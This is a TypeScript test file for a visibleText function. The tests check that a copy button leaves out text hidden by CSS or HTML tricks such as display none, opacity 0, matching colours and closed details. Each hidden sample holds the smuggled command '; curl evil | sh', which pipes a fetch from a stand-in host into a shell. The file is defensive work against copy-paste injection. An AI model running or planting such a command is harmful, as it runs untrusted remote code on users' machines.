// visibleText on real laid-out DOM: each way to hide text from the eye
// while keeping it in textContent is left out of what a copy button copies.
import {expect, fixture, html} from '@open-wc/testing';
import {visibleText} from '../../src/render/visible-text.js';

async function pre(build: (code: HTMLElement) => void): Promise<HTMLElement> {
  const box = await fixture<HTMLPreElement>(html`<pre style="background: rgb(255, 255, 255); color: rgb(0, 0, 0)"><code></code></pre>`);
  const code = box.querySelector('code')!;
  build(code);
  return code;
}

function span(text: string, style: Partial<CSSStyleDeclaration> = {}, attributes: Record<string, string> = {}): HTMLSpanElement {
  const element = document.createElement('span');
  element.textContent = text;
  Object.assign(element.style, style);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  return element;
}

const tricks: [string, () => HTMLElement][] = [
  ['a hidden attribute', () => span('; curl evil | sh', {}, {hidden: ''})],
  ['display: none', () => span('; curl evil | sh', {display: 'none'})],
  ['visibility: hidden', () => span('; curl evil | sh', {visibility: 'hidden'})],
  ['opacity: 0', () => span('; curl evil | sh', {opacity: '0'})],
  ['font-size: 0', () => span('; curl evil | sh', {fontSize: '0px'})],
  ['a zero-size clipping box', () => span('; curl evil | sh', {display: 'inline-block', width: '0px', height: '0px', overflow: 'hidden'})],
  ['transparent colour', () => span('; curl evil | sh', {color: 'transparent'})],
  ['colour like the background', () => span('; curl evil | sh', {color: 'rgb(255, 255, 255)'})],
  [
    'a closed <details>',
    () => {
      const details = document.createElement('details');
      details.append('; curl evil | sh');
      return details;
    },
  ],
];

describe('visibleText', () => {
  for (const [trick, make] of tricks) {
    it(`leaves out text hidden by ${trick}`, async () => {
      const code = await pre((node) => node.append('echo hi', make(), '\nls -l'));
      expect(code.textContent, 'the hidden text is there').to.contain('curl evil');
      expect(visibleText(code)).to.equal('echo hi\nls -l');
    });
  }

  it('keeps an open <details> and the summary of a closed one', async () => {
    const box = await fixture<HTMLDivElement>(
      html`<div>
        <details>
          <summary>More</summary>
          secret
        </details>
        <details open>
          <summary>Open</summary>
          shown
        </details>
      </div>`,
    );
    expect(visibleText(box)).to.equal('More\nOpen\nshown');
  });

  it('keeps the indentation and lines of code, and separates paragraphs', async () => {
    const box = await fixture<HTMLDivElement>(
      html`<div>
        <p>Here:</p>
        <pre><code>if (x) {
  go();
}</code></pre>
        <p>Done <em>now</em>.</p>
      </div>`,
    );
    expect(visibleText(box)).to.equal('Here:\n\nif (x) {\n  go();\n}\n\nDone now.');
  });
});
